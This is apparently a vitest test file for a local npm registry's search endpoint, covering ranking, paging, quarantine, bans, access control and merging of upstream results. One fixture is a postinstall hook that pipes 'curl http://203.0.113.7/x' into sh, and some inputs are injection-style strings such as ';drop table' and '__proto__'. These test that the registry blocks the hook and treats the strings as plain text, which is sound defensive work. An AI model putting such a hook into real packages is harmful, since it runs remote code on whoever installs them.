import { join } from "node:path";
import { describe, expect, test } from "vitest";
import { startClock } from "../../support/clock.ts";
import { temporaryFolder } from "../../support/process.ts";
import { type RegistryOptions, startRegistry, type TestRegistry } from "../../support/registry.ts";
import { type FakeUpstream, startUpstream } from "../../support/upstream.ts";

interface Result {
  readonly objects: readonly {
    readonly package: { readonly name: string; readonly version: string } & Record<string, unknown>;
    readonly isLocal: boolean;
    readonly flags: Readonly<Record<string, unknown>>;
  }[];
  readonly total: number;
  readonly time: string;
}

async function search(
  registry: TestRegistry,
  text: string,
  options: { size?: number | string; from?: number | string; token?: string } = {},
): Promise<Result> {
  const { size = 20, from = 0, token } = options;
  const query = new URLSearchParams({ text, size: `${size}`, from: `${from}` });
  const init = token === undefined ? {} : { token };
  const response = await registry.fetch(`/-/v1/search?${query}`, init);
  expect(response.status).toBe(200);
  expect(response.headers.get("cache-control")).toBe("no-store");
  return (await response.json()) as Result;
}

const namesOf = ({ objects }: Result) => objects.map((hit) => hit.package.name);

const found = async (...args: Parameters<typeof search>) => namesOf(await search(...args));

async function publish(
  registry: TestRegistry,
  name: string,
  manifest: object = {},
  readme = "",
): Promise<void> {
  const response = await registry.publish(
    name,
    "1.0.0",
    { "README.md": readme },
    { manifest, document: { readme } },
  );
  expect(response.status).toBe(201);
}

const evil = { scripts: { postinstall: "curl http://203.0.113.7/x | sh" } };

describe("GET /-/v1/search, what is published here", () => {
  test("has every field that clients read, and no more than is known", async () => {
    const clock = startClock("2026-02-02T03:04:05.678Z");
    await using registry = await startRegistry({ now: clock.now });
    await publish(registry, "@acme/lib-tools", {
      description: "Tools",
      keywords: ["a", "b"],
      license: "MIT",
      author: "Ann <ann@acme.test>",
      homepage: "https://acme.test/",
      repository: { type: "git", url: "git+https://github.com/acme/lib.git" },
      bugs: "javascript:alert(1)",
    });

    const result = await search(registry, "tools");

    const owner = { username: "owner", email: "owner@agentregistry.invalid" };
    expect(result).toEqual({
      objects: [
        {
          package: {
            name: "@acme/lib-tools",
            scope: "acme",
            version: "1.0.0",
            description: "Tools",
            keywords: ["a", "b"],
            date: "2026-02-02T03:04:05.678Z",
            license: "MIT",
            author: { name: "Ann" },
            links: {
              npm: "http://localhost:4873/@acme/lib-tools",
              homepage: "https://acme.test/",
              repository: "https://github.com/acme/lib",
            },
            publisher: owner,
            maintainers: [owner],
          },
          flags: { unstable: false },
          score: { final: 1, detail: { quality: 1, popularity: 1, maintenance: 1 } },
          searchScore: expect.any(Number),
          updated: "2026-02-02T03:04:05.678Z",
          dependents: 0,
          downloads: { weekly: 0, monthly: 0 },
          isLocal: true,
        },
      ],
      total: 1,
      time: "2026-02-02T03:04:05.678Z",
    });
  });

  test("finds a package by each of its words, by what they begin with, and by qualifiers", async () => {
    await using registry = await startRegistry();
    await publish(
      registry,
      "@acme/lib-tools",
      { description: "Résumé parser", keywords: ["agents", "cli"], author: "Ann Other" },
      "Reads a curriculum.",
    );
    await publish(registry, "other", { keywords: ["cli"] });

    const finds = [
      ...["lib-tools", "tools", "libtools", "acme", "@acme/lib-tools", "@acme/", "too"],
      ...["resume", "parser agents", "curriculum", "ann", "PARSER"],
      ...["scope:acme", "keywords:agents", "keywords:nope,agents", "keywords:agents+cli"],
      ...["keywords:cli,-none scope:acme", "not:deprecated tools"],
      ...[
        "maintainer:owner tools",
        "author:ann tools",
        "author:OTHER",
        "publisher:owner tools",
        "tools quality-weight:9",
      ],
    ];
    for (const text of finds) {
      expect([text, await found(registry, text)]).toEqual([text, ["@acme/lib-tools"]]);
    }
    const misses = [
      ...["tools nothing", "ools", "scope:other", "keywords:agents+none", "keywords:cli,-cli"],
      ...["is:deprecated", "is:unstable", "is:insecure", "author:bob", "maintainer:ann"],
    ];
    for (const text of misses) expect([text, await found(registry, text)]).toEqual([text, []]);
  });

  test("shows the package of exactly that name first, then names, then other text", async () => {
    await using registry = await startRegistry();
    await publish(registry, "text-only", { description: "about gadget" }, "gadget gadget gadget");
    await publish(registry, "gadget-tools", { description: "gadget gadget gadget" });
    await publish(registry, "gadget", {});

    expect(await found(registry, "gadget")).toEqual(["gadget", "gadget-tools", "text-only"]);
    expect((await search(registry, "gadget boost-exact:false")).total).toBe(3);
  });

  test("shows everything, the newest first, when nothing is asked for", async () => {
    const clock = startClock();
    await using registry = await startRegistry({ now: clock.now });
    for (const name of ["first", "second", "third"]) {
      clock.advance(60);
      await publish(registry, name);
    }
    expect(await found(registry, "")).toEqual(["third", "second", "first"]);
    const bare = await registry.fetch("/-/v1/search");
    expect(((await bare.json()) as Result).total).toBe(3);
    expect(await found(registry, "not:deprecated")).toEqual(["third", "second", "first"]);
  });

  test("keeps size and from inside their bounds, whatever is sent", async () => {
    await using registry = await startRegistry();
    for (const name of ["one", "two", "three"]) await publish(registry, name);
    const sizes = { "-1": 0, "0": 0, "1": 1, "1.9": 1, "9999": 3, nonsense: 3, "": 3, NaN: 3 };
    for (const [size, expected] of Object.entries({ ...sizes, Infinity: 3, "1e400": 3 })) {
      const { objects, total } = await search(registry, "", { size });
      expect([size, objects.length, total]).toEqual([size, expected, 3]);
    }
    for (const from of ["3", "10001", "1e400"]) {
      expect((await search(registry, "", { from })).objects).toEqual([]);
    }
    for (const from of ["-5", "x", ""]) {
      expect((await search(registry, "", { from })).objects).toHaveLength(3);
    }
  });

  test("pages without gaps or repeats", async () => {
    await using registry = await startRegistry();
    const names = Array.from({ length: 7 }, (_, at) => `gadget-${at}`);
    for (const name of names) await publish(registry, name);
    await publish(registry, "gadget");
    await publish(registry, "readme-only", {}, "a gadget");

    for (const text of ["gadget", "", "maintainer:owner"]) {
      const pages: string[] = [];
      for (let from = 0; from < 9; from += 2) {
        pages.push(...(await found(registry, text, { from, size: 2 })));
      }
      expect(pages.toSorted()).toEqual([...names, "gadget", "readme-only"].toSorted());
    }
  });

  test.each([
    ...[
      '"',
      '""',
      '"a',
      "'",
      "*",
      "a*",
      "^a",
      "(",
      ")",
      "a(b)",
      "a AND",
      "NOT a",
      "a OR",
      "NEAR(a b)",
    ],
    ...[
      "name:a",
      "{name}:a",
      "-a",
      "a:b:c",
      "a\u0000b",
      "%00",
      "\ud800",

      "--",
      ";drop table",
    ],
    ...[
      "__proto__",
      "constructor",
      "keywords:__proto__",
      "is:",
      "😀",
      "日本",
      "٣",
      "\u0301",
      "a".repeat(5000),
    ],
  ])("takes %j for text, never for an instruction", async (text) => {
    await using registry = await startRegistry();
    await publish(registry, "other");
    expect(await found(registry, text)).toEqual([]);
  });

  test("knows a change with the next search: publish, new version, ruling and its expiry", async () => {
    const clock = startClock();
    await using registry = await startRegistry({ now: clock.now });
    expect(await found(registry, "gadget")).toEqual([]);
    await publish(registry, "gadget", { description: "first" });
    await registry.publish("gadget", "1.1.0", {}, { manifest: { description: "second" } });
    expect((await search(registry, "gadget")).objects[0]?.package.version).toBe("1.1.0");
    expect(await found(registry, "first")).toEqual([]);

    const held = await registry.publish("gadget", "1.2.0", {}, { manifest: evil });
    expect(held.status).toBe(403);
    expect((await search(registry, "gadget")).objects[0]?.package.version).toBe("1.1.0");

    const soon = new Date(clock.now().getTime() + 60_000).toISOString();
    const path = "/-/admin/quarantine/gadget@1.2.0/approve";
    const json = { reason: "read it", expires_at: soon };
    expect((await registry.asOwner(path, { method: "POST", json })).status).toBe(200);
    expect((await search(registry, "gadget")).objects[0]?.package.version).toBe("1.2.0");
    clock.advance(61);
    expect((await search(registry, "gadget")).objects[0]?.package.version).toBe("1.1.0");
  });

  test("does not find what is held, with nothing else to show", async () => {
    await using registry = await startRegistry();
    expect((await registry.publish("gadget", "1.0.0", {}, { manifest: evil })).status).toBe(403);
    expect(await search(registry, "gadget")).toMatchObject({ objects: [], total: 0 });
    expect(await search(registry, "")).toMatchObject({ objects: [], total: 0 });
  });

  test("follows the policy file, also one that changed while nobody ran", async () => {
    using folder = temporaryFolder();
    const clock = startClock();
    const options: RegistryOptions = { home: folder.path, now: clock.now };
    const policy = join(folder.path, "trust", "policy.toml");
    const ban = '[[ban]]\nname = "gadget"\n';
    {
      await using registry = await startRegistry(options);
      await publish(registry, "gadget");
      expect(await found(registry, "gadget")).toEqual(["gadget"]);
      await Bun.write(policy, ban);
      clock.advance(5);
      expect(await found(registry, "gadget")).toEqual([]);
      await Bun.write(policy, "# nothing is banned\n");
      clock.advance(5);
      await expect.poll(async () => await found(registry, "gadget")).toEqual(["gadget"]);
    }
    await Bun.write(policy, ban);
    await using registry = await startRegistry(options);
    expect(await found(registry, "gadget")).toEqual([]);
  });

  test("says which packages are deprecated, unstable or insecure", async () => {
    await using registry = await startRegistry();
    await publish(registry, "stable");
    await registry.publish("young", "0.1.0");
    const json = {
      advisories: [
        {
          id: "LOCAL-1",
          affected: [
            {
              package: { ecosystem: "npm", name: "young" },
              ranges: [{ type: "SEMVER", events: [{ introduced: "0" }] }],
            },
          ],
        },
      ],
    };
    await registry.asOwner("/-/admin/advisories", { method: "POST", json });

    expect(await found(registry, "is:unstable")).toEqual(["young"]);
    expect(await found(registry, "is:insecure")).toEqual(["young"]);
    expect(await found(registry, "not:insecure")).toEqual(["stable"]);
    expect((await search(registry, "young")).objects[0]?.flags).toEqual({
      unstable: true,
      insecure: true,
    });
  });

  test("finds restricted packages only for those who may read them", async () => {
    await using registry = await startRegistry();
    await publish(registry, "@acme/open");
    await publish(registry, "@acme/secret");
    await registry.app.db.write(
      (tx) =>
        tx`update packages set access = 'restricted', rev = rev + 1 where name = '@acme/secret'`,
    );
    registry.app.events.emit("packageChanged", { name: "@acme/secret" as never });

    for (const text of ["", "acme", "scope:acme", "secret"]) {
      const all = (await search(registry, text, { token: registry.token })).total;
      expect([text, await found(registry, text), all]).toEqual(
        text === "secret" ? [text, [], 1] : [text, ["@acme/open"], 2],
      );
    }
  });

  test("heals at the next start what a crash kept from the index", async () => {
    using folder = temporaryFolder();
    const options: RegistryOptions = { home: folder.path };
    {
      await using registry = await startRegistry(options);
      await publish(registry, "kept");
      await publish(registry, "gone");
      expect((await search(registry, "")).total).toBe(2);
      // As a process leaves it that dies between the commit and the index.
      await registry.app.db.write(async (tx) => {
        await tx`update packages set rev = rev + 1 where name = 'kept'`;
        await tx`update versions set manifest = '{"name":"kept","version":"1.0.0","description":"anew"}'
                 where name = 'kept'`;
        for (const table of ["reports", "tags", "versions", "maintainers", "packages"]) {
          await tx.unsafe(`delete from ${table} where name = 'gone'`);
        }
      });
    }
    await using registry = await startRegistry(options);
    expect(await found(registry, "")).toEqual(["kept"]);
    expect(await found(registry, "anew")).toEqual(["kept"]);
  });
});

const searchPath = "/-/v1/search";

/** An upstream whose search finds packages of these names, in this order. */
function searchable(upstream: FakeUpstream, names: readonly string[], extra: object = {}): void {
  upstream.answerAt(searchPath, (query) => {
    const from = Number(query.get("from"));
    const objects = names.slice(from, from + Number(query.get("size"))).map((name) => ({
      package: { name, version: "1.0.0", maintainers: [{ username: "ann" }], ...extra },
      score: { final: 0.5, detail: { quality: 0.5, popularity: 0.5, maintenance: 0.5 } },
      searchScore: 3,
    }));
    return { objects, total: names.length, time: "whenever" };
  });
}

describe("GET /-/v1/search, merged with the upstream's", () => {
  test("shows packages that are published here first, then the upstream's", async () => {
    await using upstream = startUpstream();
    searchable(upstream, ["theirs-a", "theirs-b"]);
    await using registry = await startRegistry({ upstream });
    await publish(registry, "ours-gadget");

    const result = await search(registry, "gadget");

    expect(namesOf(result)).toEqual(["ours-gadget", "theirs-a", "theirs-b"]);
    expect(result.objects.map((hit) => hit.isLocal)).toEqual([true, false, false]);
    expect(result.total).toBe(3);
  });

  test("pages across the border without gaps or repeats, leaving out names that are ours", async () => {
    await using upstream = startUpstream();
    const theirs = Array.from({ length: 30 }, (_, at) => `theirs-${at}`);
    // What is hosted here, in a scope of ours, or sent twice, is nothing that the upstream has.
    const noise = ["hosted-elsewhere", "@acme/x", "theirs-1", "@acme/y", "not a name", "claimed"];
    searchable(upstream, [...theirs.slice(0, 3), ...noise, ...theirs.slice(3)]);
    await using registry = await startRegistry({ upstream });
    for (const name of ["gadget-1", "gadget-2", "gadget-3", "hosted-elsewhere", "@acme/z"]) {
      await publish(registry, name);
    }
    const claim = { method: "POST", json: { name: "claimed" } };
    expect((await registry.asOwner("/-/admin/claims", claim)).status).toBe(201);

    for (const size of [1, 4, 7, 20, 250]) {
      const pages: string[] = [];
      for (let from = 0; from < 40; from += size) {
        pages.push(...(await found(registry, "gadget", { from, size })));
      }
      expect(pages.slice(3)).toEqual(theirs);
      expect(new Set(pages.slice(0, 3))).toEqual(new Set(["gadget-1", "gadget-2", "gadget-3"]));
    }
    expect((await search(registry, "gadget", { size: 250 })).total).toBe(33);
  });

  test("takes over known fields of the right type and nothing else", async () => {
    await using upstream = startUpstream();
    searchable(upstream, ["theirs"], {
      description: 7,
      keywords: "a b",
      date: "not a date",
      license: { type: "MIT" },
      links: { npm: "https://elsewhere.test/", homepage: `${upstream.url}/x`, bugs: "file:///etc" },
      publisher: "ann",
      maintainers: { username: "ann" },
      dist: { tarball: `${upstream.url}/theirs.tgz` },
      readme: "x",
    });
    await using registry = await startRegistry({ upstream });

    const { objects } = await search(registry, "theirs");

    expect(objects).toEqual([
      {
        package: {
          name: "theirs",
          scope: "unscoped",
          version: "1.0.0",
          keywords: ["a", "b"],
          links: { npm: "http://localhost:4873/theirs" },
          maintainers: [],
        },
        flags: { unstable: false },
        score: { final: 0.5, detail: { quality: 0.5, popularity: 0.5, maintenance: 0.5 } },
        searchScore: 3,
        dependents: 0,
        downloads: { weekly: 0, monthly: 0 },
        isLocal: false,
      },
    ]);
  });

  test("shows what is published here when the upstream fails, in whatever way", async () => {
    await using upstream = startUpstream();
    await using registry = await startRegistry({ upstream });
    await publish(registry, "ours");
    const bodies = [
      "<html>",
      "",
      "null",
      "[]",
      "7",
      '{"objects":7}',
      '{"total":9}',
      '{"objects":[',
    ];
    for (const body of bodies) {
      upstream.fail(searchPath, { kind: "body", body });
      expect([body, await found(registry, "ours")]).toEqual([body, ["ours"]]);
    }
    for (const status of [400, 404, 405, 429]) {
      upstream.fail(searchPath, { kind: "status", status });
      expect([status, await found(registry, "ours")]).toEqual([status, ["ours"]]);
    }
    upstream.fail(searchPath, { kind: "redirect", to: "http://192.0.2.1/" });
    expect(await found(registry, "ours")).toEqual(["ours"]);
    upstream.fail(searchPath, {
      kind: "body",
      body: '{"objects":[null,7,{},{"package":null},{"package":{"name":"__proto__","version":"1.0.0"}}]}',
    });
    expect(await search(registry, "ours")).toMatchObject({ total: 1 });
    await upstream.stop();
    expect(await found(registry, "ours")).toEqual(["ours"]);
  });

  test("waits for a slow upstream no longer than three seconds", { timeout: 10_000 }, async () => {
    await using upstream = startUpstream();
    await using registry = await startRegistry({ upstream });
    await publish(registry, "ours");
    const never = Promise.withResolvers<void>();
    upstream.fail(searchPath, { kind: "wait", until: never.promise });
    const before = performance.now();
    expect(await found(registry, "ours")).toEqual(["ours"]);
    expect(performance.now() - before).toBeLessThan(4500);
    never.resolve();
  });

  test("tells the upstream neither of names that are ours nor anything when it shall not", async () => {
    await using upstream = startUpstream();
    searchable(upstream, ["theirs"]);
    await using registry = await startRegistry({ upstream });
    await publish(registry, "@acme/secret-plan");
    for (const text of ["@acme/secret-plan", "scope:acme", "scope:@acme plan", "@acme", ""]) {
      await search(registry, text);
    }
    expect(upstream.requests.filter(({ path }) => path.startsWith(searchPath))).toEqual([]);

    await using silent = await startRegistry({ upstream, config: { search: { upstream: false } } });
    expect(await found(silent, "theirs")).toEqual([]);
    await using offline = await startRegistry({
      upstream,
      config: { upstream: { offline: true } },
    });
    expect(await found(offline, "theirs")).toEqual([]);
    expect(upstream.requests.filter(({ path }) => path.startsWith(searchPath))).toEqual([]);
  });
});

describe("GET /", () => {
  test("lists names, those published here first, in pages", async () => {
    await using upstream = startUpstream();
    upstream.add("abc", "1.0.0");
    upstream.add("later-ours", "1.0.0");
    await using registry = await startRegistry({ upstream });
    for (const name of ["abc", "later-ours"]) await registry.packument(name);
    await publish(registry, "zebra");
    await publish(registry, "@acme/lib");
    await registry.publish("held", "1.0.0", {}, { manifest: evil });
    const claim = { method: "POST", json: { name: "later-ours" } };
    await registry.asOwner("/-/admin/claims", claim);

    const list = async (query: string) =>
      (await (await registry.fetch(`/${query}`)).json()) as {
        packages: string[];
        next: string | null;
      };
    const pages: string[][] = [];
    let next: string | null = "";
    while (next !== null) {
      const page: { packages: string[]; next: string | null } = await list(
        `?limit=1&cursor=${encodeURIComponent(next)}`,
      );
      pages.push(page.packages);
      ({ next } = page);
    }
    expect(pages.flat()).toEqual(["@acme/lib", "zebra", "abc"]);
    expect((await list("?source=local")).packages).toEqual(["@acme/lib", "zebra"]);
    expect((await list("?source=upstream")).packages).toEqual(["abc"]);
    expect((await list("?cursor=odd")).packages).toEqual(["@acme/lib", "zebra", "abc"]);
    expect((await registry.fetch("/?limit=0")).status).toBe(400);
  });
});

describe("GET /-/all", () => {
  test.each(["/-/all", "/-/all/since?stale=update_after&startkey=1"])(
    "%s is not there",
    async (path) => {
      await using registry = await startRegistry();
      const response = await registry.fetch(path);
      expect(response.status).toBe(404);
      expect(await response.json()).toMatchObject({
        error: "this registry has no list of everything; a newer npm searches with /-/v1/search",
      });
    },
  );
});
